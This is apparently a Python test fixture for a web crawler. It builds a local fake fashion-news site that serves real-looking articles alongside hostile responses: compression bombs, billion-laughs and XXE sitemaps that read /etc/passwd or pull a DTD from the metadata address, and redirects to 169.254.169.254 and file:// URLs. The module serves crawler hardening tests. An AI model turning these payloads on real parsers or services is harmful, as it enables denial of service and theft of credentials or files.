"""A hostile fashion-news site for 127.0.0.1: every way a response can be broken, plus real articles.

Served by the fixture web's ``SiteServer``; used by ``tests/test_hostile_crawl.py`` to check
that a crawl over it finishes, emits every valid article (including those served with a lying
charset or a BOM) and reports each bad case by kind. Every case is reachable from the home
page, robots.txt or the sitemap index, the way a crawler would meet it.

The cases, by path (``HOSTILE_CASES`` maps each to the stats kind a crawl should report):
decompression bombs (gzip, deflate, brotli ``Content-Encoding``; a gzipped sitemap), oversized
pages (announced by Content-Length, or streamed without one), binary bodies served as
text/html, charsets that lie or cannot exist, markup built to stall HTML parsers, empty bodies, truncated bodies (Content-Length larger than what is sent), endless
redirects, slow-drip bodies, HTTP errors with and without ``Retry-After``, redirects and links
to the cloud metadata address and to ``file://``, an oversized robots.txt, and XML attacks: billion laughs, external
entities, an HTML error page as a sitemap, a truncated sitemap, a BOM and whitespace before the
XML declaration.
"""

from __future__ import annotations

import hashlib
import json
import zlib
from dataclasses import dataclass
from functools import lru_cache
from html import escape

from newscrawl.fixtureweb.server import Request, Response, etag_for

MB = 1024 * 1024
BOMB_EXPANDED = 64 * MB  # what each compression bomb expands to (well past any sane limit)
SITEMAP_BOMB_EXPANDED = 128 * MB
OVERSIZED = 24 * MB  # an oversized page (both variants)
SLOW_DRIP_SECONDS = 30.0  # how long the slow-drip page takes to send in full

# Articles anyone should be able to extract. ``charset`` says how each is served.
_TOPICS = (
    ("atelier-lumen-names-new-creative-director", "Atelier Lumen names a new creative director",
     "utf-8"),
    ("copenhagen-showrooms-report-record-orders", "Copenhagen showrooms report record orders",
     "utf-8"),
    ("resale-platform-opens-milan-flagship", "Resale platform opens a Milan flagship",
     "utf-8"),
    ("cafe-creme-knitwear-label-expands", "Café crème knitwear label expands to Zürich",
     "lying-utf8"),  # declared utf-8, bytes are windows-1252
    ("paris-trade-fair-moves-to-september", "Paris trade fair moves to September",
     "bom"),  # UTF-8 BOM, header says iso-8859-1
    ("denim-mill-invests-in-water-recycling", "Denim mill invests in water recycling",
     "none"),  # no charset anywhere, plain UTF-8
    ("milan-showroom-reopens-after-renovation", "Milan showroom reopens after renovation",
     "bogus"),  # header charset=base64, <meta charset=utf-16>: neither can describe the page
)  # fmt: skip

SENTENCES = (
    "The company confirmed the appointment in a statement on Tuesday, ending months of speculation.",
    "Buyers from department stores in Europe and Asia attended the presentations over three days.",
    "According to the chief executive, wholesale orders rose by a double-digit percentage year on year.",
    "The label has built its reputation on heavyweight knitwear produced in small family-run mills.",
    "Analysts said the move reflects a wider shift towards fewer, larger and better-curated shows.",
    "Several exhibitors told reporters that footfall was stronger than in any season since 2019.",
    "The new flagship spans two floors and includes a repair service and an archive room.",
    "Industry observers expect other brands to follow with similar announcements before the spring.",
    "Prices for certified organic cotton have climbed steadily, squeezing margins for smaller brands.",
    "The designer previously led menswear at a Paris house and studied at Central Saint Martins.",
    "Retailers said customers increasingly ask where and how garments are made before buying.",
    "The group plans to publish a full progress report on its environmental targets next year.",
)  # fmt: skip


@dataclass(frozen=True)
class HostileArticle:
    slug: str
    title: str
    charset: str  # "utf-8", "lying-utf8", "bom", "none"

    @property
    def path(self) -> str:
        return f"/news/2026/11/{self.slug}"


ARTICLES = tuple(HostileArticle(slug, title, cs) for slug, title, cs in _TOPICS)
# Only reachable through the sitemap, next to the XML attacks.
SITEMAP_ONLY = frozenset({ARTICLES[2].slug, ARTICLES[5].slug})

# path -> the ``newscrawl/hostile/<kind>`` (or ``newscrawl/refused/<kind>``) a crawl must report.
HOSTILE_CASES: dict[str, str] = {
    "/news/2026/11/gzip-bomb": "hostile/decompression-bomb",
    "/news/2026/11/deflate-bomb": "hostile/decompression-bomb",
    "/news/2026/11/brotli-bomb": "hostile/decompression-bomb",
    "/news/2026/11/huge-page": "hostile/too-large",
    "/news/2026/11/huge-stream": "hostile/too-large",
    "/news/2026/11/binary-as-html": "hostile/binary-as-html",
    "/news/2026/11/attribute-bomb": "hostile/pathological-markup",
    "/news/2026/11/empty": "hostile/empty-body",
    "/news/2026/11/truncated": "hostile/truncated",
    "/news/2026/11/slow-drip": "hostile/timeout",
    "/loop/0": "hostile/redirect-limit",
    "/robots.txt": "hostile/robots-truncated",
    "/news/2026/11/broken": "hostile/http-error",
    "/news/2026/11/busy": "hostile/http-error-retry-after",
    "/news/2026/11/to-metadata": "refused/metadata-address",
    "/news/2026/11/to-file": "refused/scheme",
}
# XML cases live in the sitemap index; a crawl must survive them and still find the articles.
XML_CASES = ("/sitemap-laughs.xml", "/sitemap-xxe.xml", "/sitemap-html.xml",
             "/sitemap-truncated.xml", "/sitemap-bom.xml", "/sitemap-bomb.xml.gz")  # fmt: skip


def article_html(article: HostileArticle, base: str) -> str:
    """A complete article page: JSON-LD NewsArticle, Open Graph, byline, date, long body."""
    seed = int(hashlib.md5(article.slug.encode()).hexdigest()[:8], 16)
    paragraphs = []
    for p in range(6):
        picked = [SENTENCES[(seed + p * 5 + i * 7) % len(SENTENCES)] for i in range(4)]
        paragraphs.append(f"<p>{escape(' '.join(picked))}</p>")
    if article.charset != "utf-8":
        paragraphs.insert(1, "<p>Zürich’s boutiques — and the café crème crowd — welcomed "
                             "the news, said Françoise Müller, a buyer.</p>")  # fmt: skip
    url = base + article.path
    ld = {"@context": "https://schema.org", "@type": "NewsArticle", "headline": article.title,
          "datePublished": "2026-11-18T09:30:00+00:00", "author": {"@type": "Person",
          "name": "Clara Weiss"}, "mainEntityOfPage": url}  # fmt: skip
    meta_charset = {"utf-8": '<meta charset="utf-8">', "lying-utf8": '<meta charset="utf-8">',
                    "bogus": '<meta charset="utf-16">'}.get(article.charset, "")  # fmt: skip
    return (
        f'<!DOCTYPE html>\n<html lang="en"><head>{meta_charset}'
        f"<title>{escape(article.title)} | The Hostile Gazette</title>"
        f'<meta property="og:type" content="article">'
        f'<meta property="og:title" content="{escape(article.title)}">'
        f'<link rel="canonical" href="{url}">'
        f'<script type="application/ld+json">{json.dumps(ld)}</script></head>\n'
        f'<body><header><a href="/">The Hostile Gazette</a></header><main><article>'
        f"<h1>{escape(article.title)}</h1>"
        f'<p class="byline">By Clara Weiss · <time datetime="2026-11-18">18 November 2026</time></p>'
        f"{''.join(paragraphs)}</article></main>"
        f"<footer><p>© 2026 The Hostile Gazette</p></footer></body></html>\n"
    )


def _home(base: str) -> str:
    links = [f'<li><a href="{a.path}">{escape(a.title)}</a></li>' for a in ARTICLES
             if a.slug not in SITEMAP_ONLY]  # fmt: skip
    links += [f'<li><a href="{path}">{escape(path.rsplit("/", 1)[-1])}</a></li>'
              for path in HOSTILE_CASES]  # fmt: skip
    links.append('<li><a href="http://169.254.169.254/latest/meta-data/">metadata</a></li>')
    return (
        '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">'
        "<title>The Hostile Gazette</title></head><body><h1>The Hostile Gazette</h1>"
        f"<ul>{''.join(links)}</ul></body></html>"
    )


def _urlset(urls: list[str]) -> bytes:
    items = "".join(f"<url><loc>{escape(u)}</loc><lastmod>2026-11-18</lastmod></url>" for u in urls)
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{items}</urlset>\n'
    ).encode()


def _billion_laughs(loc: str) -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE urlset [' + "".join(entities) + "]>\n"
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"<url><loc>{loc}&lol9;</loc></url></urlset>\n"
    ).encode()


def _xxe(loc: str) -> bytes:
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
        '<!ENTITY % remote SYSTEM "http://169.254.169.254/evil.dtd"> %remote;]>\n'
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"<url><loc>{loc}</loc><lastmod>&xxe;</lastmod></url></urlset>\n"
    ).encode()


@lru_cache(maxsize=8)
def _bomb(encoding: str, size: int) -> bytes:
    """``size`` zero bytes compressed: tens of kilobytes on the wire, ``size`` once decoded."""
    chunk = b"\0" * MB
    if encoding == "br":
        import brotli

        compressor = brotli.Compressor(quality=1)
        return b"".join(compressor.process(chunk) for _ in range(size // MB)) + compressor.finish()
    wbits = {"gzip": 16 + zlib.MAX_WBITS, "deflate": zlib.MAX_WBITS}[encoding]
    comp = zlib.compressobj(9, zlib.DEFLATED, wbits)
    return b"".join(comp.compress(chunk) for _ in range(size // MB)) + comp.flush()


def _drip(total_seconds: float) -> list[bytes]:
    head = b'<!DOCTYPE html><html><head><meta charset="utf-8"><title>slow</title></head><body>'
    return [head] + [b"<p>drip</p>"] * int(total_seconds * 4)


class HostileSite:
    """The site app (``name`` + ``handle``) for ``SiteServer``."""

    name = "hostile-gazette"

    def handle(self, request: Request, base: str) -> Response:
        path = request.path
        article = next((a for a in ARTICLES if a.path == path), None)
        if article is not None:
            return _serve_article(article, base)
        if path == "/":
            return Response(body=_home(base).encode())
        if path == "/robots.txt":  # 600 kB of rules: past the 500 KiB a crawler must read
            rules = "".join(f"Disallow: /private/{i}/\n" for i in range(28_000))
            return Response(body=f"Sitemap: {base}/sitemap.xml\nUser-agent: *\n{rules}"
                            .encode(), content_type="text/plain")  # fmt: skip
        if path.startswith("/loop/"):
            step = int(path.rsplit("/", 1)[-1] or 0) if path.rsplit("/", 1)[-1].isdigit() else 0
            return Response(status=302, headers={"Location": f"/loop/{step + 1}"})
        handler = _CASES.get(path)
        if handler is not None:
            return handler(base)
        return Response(status=404, body=b"<html><body><h1>Not found</h1></body></html>")


def _serve_article(article: HostileArticle, base: str) -> Response:
    html = article_html(article, base)
    if article.charset == "lying-utf8":
        body, ctype = html.encode("cp1252"), "text/html; charset=utf-8"
    elif article.charset == "bom":
        body, ctype = b"\xef\xbb\xbf" + html.encode("utf-8"), "text/html; charset=iso-8859-1"
    elif article.charset == "bogus":
        body, ctype = html.encode("utf-8"), "text/html; charset=base64"
    elif article.charset == "none":
        body, ctype = html.encode("utf-8"), "text/html"
    else:
        body, ctype = html.encode("utf-8"), "text/html; charset=utf-8"
    return Response(body=body, content_type=ctype, etag=etag_for(body))


def _sitemap_index(base: str) -> Response:
    children = ["/sitemap-articles.xml", *XML_CASES]
    items = "".join(f"<sitemap><loc>{base}{c}</loc></sitemap>" for c in children)
    body = ('<?xml version="1.0" encoding="UTF-8"?>\n<sitemapindex xmlns='
            f'"http://www.sitemaps.org/schemas/sitemap/0.9">{items}</sitemapindex>\n').encode()  # fmt: skip
    return Response(body=body, content_type="application/xml")


def _xml(body: bytes) -> Response:
    return Response(body=body, content_type="application/xml")


def _html_as_sitemap(base: str) -> Response:
    return _xml(b"<!DOCTYPE html><html><head><title>Error 500</title></head><body>"
                b"<h1>Something went wrong</h1><p>Please try again later.</p></body></html>")  # fmt: skip


def _truncated_sitemap(base: str) -> Response:
    # Cut inside the second entry's <lastmod>: the first entry and the second URL are whole.
    whole = _urlset([base + ARTICLES[5].path, base + ARTICLES[1].path])
    return _xml(whole[: whole.rindex(b"<lastmod>") + 12])


_CASES = {
    "/sitemap.xml": _sitemap_index,
    "/sitemap-articles.xml": lambda base: _xml(_urlset([base + a.path for a in ARTICLES])),
    "/sitemap-laughs.xml": lambda base: _xml(_billion_laughs(base + ARTICLES[2].path)),
    "/sitemap-xxe.xml": lambda base: _xml(_xxe(base + ARTICLES[2].path)),
    "/sitemap-html.xml": _html_as_sitemap,
    "/sitemap-truncated.xml": _truncated_sitemap,
    "/sitemap-bom.xml": lambda base: _xml(b"\xef\xbb\xbf \n\n" + _urlset([base + ARTICLES[5].path])),
    "/sitemap-bomb.xml.gz": lambda base: Response(
        body=_bomb("gzip", SITEMAP_BOMB_EXPANDED), content_type="application/x-gzip"),
    "/news/2026/11/gzip-bomb": lambda base: Response(
        body=_bomb("gzip", BOMB_EXPANDED), headers={"Content-Encoding": "gzip"}),
    "/news/2026/11/deflate-bomb": lambda base: Response(
        body=_bomb("deflate", BOMB_EXPANDED), headers={"Content-Encoding": "deflate"}),
    "/news/2026/11/brotli-bomb": lambda base: Response(
        body=_bomb("br", BOMB_EXPANDED), headers={"Content-Encoding": "br"}),
    "/news/2026/11/huge-page": lambda base: Response(body=b"<p>" + b"x" * OVERSIZED),
    "/news/2026/11/huge-stream": lambda base: Response(
        stream=(b"<p>" + b"y" * MB for _ in range(OVERSIZED // MB))),
    "/news/2026/11/binary-as-html": lambda base: Response(
        body=b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64),
    "/news/2026/11/empty": lambda base: Response(body=b""),
    # One element with 100,000 attributes (~1 MB): a minute of lxml time if parsed.
    "/news/2026/11/attribute-bomb": lambda base: Response(
        body=b"<html><body><div " + b" ".join(b"a%d=x" % i for i in range(100_000)) + b">"),
    "/news/2026/11/truncated": lambda base: Response(
        stream=iter([b"<!DOCTYPE html><html><body><p>" + b"cut " * 2000]),
        headers={"Content-Length": "500000"}),
    "/news/2026/11/slow-drip": lambda base: Response(
        stream=iter(_drip(SLOW_DRIP_SECONDS)), chunk_delay=0.25),
    "/news/2026/11/broken": lambda base: Response(status=500, body=b"<h1>Server error</h1>"),
    "/news/2026/11/busy": lambda base: Response(
        status=503, body=b"<h1>Busy</h1>", headers={"Retry-After": "1"}),
    "/news/2026/11/to-metadata": lambda base: Response(
        status=302, headers={"Location": "http://169.254.169.254/latest/meta-data/iam/"}),
    "/news/2026/11/to-file": lambda base: Response(
        status=302, headers={"Location": "file:///etc/passwd"}),
}  # fmt: skip


class OverloadedSite:
    """A site whose every article answers ``503`` with ``Retry-After``: it asks crawlers to wait.

    Crawled next to a healthy site, it checks that one site's backoff never stalls the others.
    """

    name = "overloaded"

    def __init__(self, pages: int = 12, retry_after: int = 5) -> None:
        self.pages = pages
        self.retry_after = retry_after

    def handle(self, request: Request, base: str) -> Response:
        if request.path == "/":
            links = "".join(f'<a href="/news/2026/11/story-{i}">Story {i}</a>'
                            for i in range(self.pages))  # fmt: skip
            return Response(body=f"<html><body><h1>Overloaded</h1>{links}</body></html>".encode())
        if request.path == "/robots.txt":
            return Response(body=b"User-agent: *\nAllow: /\n", content_type="text/plain")
        return Response(status=503, body=b"<h1>Busy</h1>",
                        headers={"Retry-After": str(self.retry_after)})  # fmt: skip


def gzip_bomb_sitemap() -> bytes:
    """The gzipped sitemap bomb on its own (for unit tests of sitemap parsing)."""
    return _bomb("gzip", SITEMAP_BOMB_EXPANDED)


__all__ = ["ARTICLES", "HOSTILE_CASES", "XML_CASES", "HostileArticle", "HostileSite",
           "OverloadedSite", "article_html", "gzip_bomb_sitemap"]  # fmt: skip
